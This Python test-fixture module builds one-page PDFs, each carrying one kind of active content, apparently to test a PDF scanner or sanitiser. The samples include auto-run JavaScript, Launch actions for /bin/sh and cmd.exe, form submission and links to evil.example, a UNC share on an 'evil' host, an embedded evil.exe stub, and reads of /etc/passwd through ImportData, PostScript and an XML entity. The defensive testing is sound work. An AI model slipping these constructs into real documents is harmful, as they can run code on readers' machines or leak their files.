"""PDFs that do, carry or ask for something: what a reader would run, fetch or unpack."""

import zlib
from collections.abc import Callable

from tests.small_pdf import joined, stream

JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
LAUNCH = b"<</S/Launch/F(/bin/sh)>>"
EMBEDDED = b"<</Type/Filespec/F(evil.exe)/UF(evil.exe)/EF<</F 5 0 R>>>>"
RECT = b"/Rect[100 100 300 300]"


def pdf(
    *, catalogue: bytes = b"", page: bytes = b"", content: bytes = b"1 0 0 rg 9 9 99 99 re f", more: tuple = ()
) -> bytes:  # type: ignore[type-arg]
    """Return a PDF of one page; ``more`` are objects from number 5 on."""
    box = b"" if b"/MediaBox" in page else b"/MediaBox[0 0 612 792]"
    return joined(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R%s/Contents 4 0 R%s>>" % (box, page),
            stream(content),
            *more,
        ]
    )


def annotated(annotation: bytes, *more: bytes) -> bytes:
    """Return a PDF whose page has one annotation."""
    return pdf(page=b"/Annots[<</Type/Annot%s%s>>]" % (RECT, annotation), more=more)


def field(entries: bytes) -> bytes:
    """Return a PDF with a form of one field."""
    widget = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)%s%s>>" % (RECT, entries)
    return pdf(catalogue=b"/AcroForm<</Fields[5 0 R]/NeedAppearances true>>", page=b"/Annots[5 0 R]", more=(widget,))


def _xfa(content: bytes) -> bytes:
    template = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><script>x()</script></template></xdp:xdp>"
    return pdf(
        catalogue=b"/AcroForm<</Fields[]/XFA 5 0 R>>/NeedsRendering true", content=content, more=(stream(template),)
    )


def _external(entries: bytes) -> bytes:
    image = b"<</Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8%s/Length 0>>stream\n\nendstream"
    return pdf(page=b"/Resources<</XObject<</I 5 0 R>>>>", content=b"99 0 0 99 9 9 cm /I Do", more=(image % entries,))


def _embedded(names: bytes) -> bytes:
    file = stream(zlib.compress(b"MZ" + bytes(2000)), b"/Type/EmbeddedFile/Filter/FlateDecode")
    return pdf(catalogue=names, more=(file, EMBEDDED))


ACTIVE: dict[str, Callable[[], bytes]] = {
    "plain_pdf": pdf,
    "pdf_script_on_opening": lambda: pdf(catalogue=b"/OpenAction" + JS),
    "pdf_script_on_page": lambda: pdf(page=b"/AA<</O%s/C%s>>" % (JS, JS)),
    "pdf_script_by_name": lambda: pdf(catalogue=b"/Names<</JavaScript<</Names[(a)%s]>>>>" % JS),
    "pdf_script_with_escaped_names": lambda: pdf(catalogue=b"/Open#41ction<</#53/J#61vaScript/J#53(app.alert\\(1\\))>>"),
    "pdf_script_in_a_stream": lambda: pdf(catalogue=b"/OpenAction<</S/JavaScript/JS 5 0 R>>", more=(stream(b"x()"),)),
    "pdf_script_before_closing": lambda: pdf(catalogue=b"/AA<</WC%s/WS%s/DP%s>>" % (JS, JS, JS)),
    "pdf_launch_on_opening": lambda: pdf(catalogue=b"/OpenAction" + LAUNCH),
    "pdf_launch_on_windows": lambda: pdf(catalogue=b"/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"),
    "pdf_launch_by_link": lambda: annotated(b"/Subtype/Link/A" + LAUNCH),
    "pdf_web_link": lambda: annotated(b"/Subtype/Link/A<</S/URI/URI(http://evil.example/?id=1)>>"),
    "pdf_web_on_opening": lambda: pdf(catalogue=b"/OpenAction<</S/URI/URI(http://127.0.0.1/)>>"),
    "pdf_sends_a_form": lambda: pdf(catalogue=b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>"),
    "pdf_imports_data": lambda: pdf(catalogue=b"/OpenAction<</S/ImportData/F(/etc/passwd)>>"),
    "pdf_goes_to_another_file": lambda: pdf(catalogue=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0/Fit]>>"),
    "pdf_goes_to_an_inner_file": lambda: pdf(catalogue=b"/OpenAction<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>"),
    "pdf_goes_round_in_actions": lambda: pdf(catalogue=b"/OpenAction 5 0 R", more=(b"<</S/Named/N/NextPage/Next 5 0 R>>",)),
    "pdf_embedded_file": lambda: _embedded(b"/Names<</EmbeddedFiles<</Names[(evil.exe)6 0 R]>>>>"),
    "pdf_associated_file": lambda: _embedded(b"/AF[6 0 R]"),
    "pdf_portfolio": lambda: _embedded(b"/Collection<</View/T>>/Names<</EmbeddedFiles<</Names[(evil.exe)6 0 R]>>>>"),
    "pdf_attached_by_annotation": lambda: annotated(b"/Subtype/FileAttachment/FS 6 0 R", stream(b"MZ"), EMBEDDED),
    "pdf_rich_media": lambda: annotated(b"/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(a.swf)6 0 R]>>>>", stream(b"CWS"), EMBEDDED),
    "pdf_film": lambda: annotated(b"/Subtype/Movie/Movie<</F(evil.avi)>>/A true"),
    "pdf_screen": lambda: annotated(b"/Subtype/Screen/A<</S/Rendition/OP 0/JS(x\\(\\))>>"),
    "pdf_sound": lambda: annotated(b"/Subtype/Sound/Sound 5 0 R", stream(b"\x00\x00", b"/Type/Sound/R 8000")),
    "pdf_three_dimensions": lambda: annotated(b"/Subtype/3D/3DD 5 0 R", stream(b"U3D\x00", b"/Type/3D/Subtype/U3D/OnInstantiate 5 0 R")),
    "pdf_form": lambda: field(b"/V(typed)/DA(/Helv 12 Tf 0 g)"),
    "pdf_form_with_script": lambda: field(b"/AA<</K%s/F%s/V%s/C%s>>" % (JS, JS, JS, JS)),
    "pdf_form_calculates": lambda: pdf(catalogue=b"/AcroForm<</Fields[5 0 R]/CO[5 0 R]>>", page=b"/Annots[5 0 R]", more=(b"<</Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</C%s>>>>" % JS,)),
    "pdf_form_of_itself": lambda: pdf(catalogue=b"/AcroForm<</Fields[5 0 R]>>", more=(b"<</FT/Tx/T(a)/Kids[5 0 R]/Parent 5 0 R>>",)),
    "pdf_signed_field": lambda: field(b"/FT/Sig/V<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>/ByteRange[0 1 2 3]>>"),
    "pdf_xfa": lambda: _xfa(b"0 0 9 9 re f " * 99),
    "pdf_xfa_that_a_browser_could_run": lambda: _xfa(b""),
    "pdf_optional_content": lambda: pdf(catalogue=b"/OCProperties<</OCGs[5 0 R]/D<</OFF[5 0 R]>>>>", content=b"/OC /h BDC 0 0 99 99 re f EMC", page=b"/Resources<</Properties<</h 5 0 R>>>>", more=(b"<</Type/OCG/Name(hidden)>>",)),
    "pdf_popup_note": lambda: annotated(b"/Subtype/Text/Contents(read me)/Popup<</Subtype/Popup/Open true/Rect[0 0 9 9]>>"),
    "pdf_redaction_mark": lambda: annotated(b"/Subtype/Redact/OverlayText(hidden)/IC[0 0 0]"),
    "pdf_picture_of_another_file": lambda: _external(b"/F(/etc/passwd)"),
    "pdf_picture_from_the_web": lambda: _external(b"/F<</FS/URL/F(http://127.0.0.1:9/)>>"),
    "pdf_page_of_another_file": lambda: pdf(page=b"/Resources<</XObject<</I 5 0 R>>>>", content=b"/I Do", more=(stream(b"", b"/Subtype/Form/BBox[0 0 9 9]/Ref<</F(/etc/passwd)/Page 0>>"),)),
    "pdf_postscript": lambda: pdf(page=b"/Resources<</XObject<</I 5 0 R>>>>", content=b"/I Do", more=(stream(b"(/etc/passwd)(r)file", b"/Type/XObject/Subtype/PS"),)),
    "pdf_metadata_with_entities": lambda: pdf(catalogue=b"/Metadata 5 0 R", more=(stream(b"<!DOCTYPE a[<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", b"/Type/Metadata/Subtype/XML"),)),
    "pdf_web_capture": lambda: pdf(catalogue=b"/SpiderInfo<</V 1.0/C[<</URL(http://evil.example/)>>]>>"),
    "pdf_thread_bead": lambda: pdf(catalogue=b"/Threads[5 0 R]", more=(b"<</Type/Thread/F 6 0 R>>", b"<</T 5 0 R/N 6 0 R/V 6 0 R/P 3 0 R/R[0 0 1 1]>>")),
}  # fmt: skip
